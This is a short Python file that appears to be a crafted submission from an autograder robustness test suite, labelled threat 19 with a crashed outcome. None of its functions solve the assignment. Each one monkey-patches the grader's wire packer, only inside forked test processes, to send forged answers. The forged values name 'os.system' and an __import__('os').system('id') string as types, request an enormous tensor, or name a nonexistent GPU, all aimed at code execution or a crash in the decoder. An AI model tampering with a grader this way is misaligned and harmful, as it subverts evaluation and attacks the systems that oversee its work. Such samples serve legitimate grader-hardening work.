# threat: 19
# fails: sign_scale, best_linear, regions
# outcome: crashed
# Answers forged on the wire: types, kinds and names that a careless decoder would look up.

# %% sign_scale
import os

from autograder import wire

notebook = os.getpid()


def armed():
    return os.getpid() != notebook  # in a copy, as tests meet it, and not when a later cell calls


def forge(value):
    if armed():
        wire.Packer.pack = lambda self, *_: value


def sign_scale(c, d):
    forge(wire.Array("os.system", [2]))

# %% best_linear
def best_linear_map(x, y):
    forge(wire.Tensor("load", [2, 2], [0, 1], device="cuda:99"))

# %% regions
def activation_pattern(x, w1, b1):
    forge(wire.Tensor("float64", [2**40, 2**40], [1, 1]))


def count_regions(x, w1, b1):
    forge(wire.BigInt("__import__('os').system('id')"))
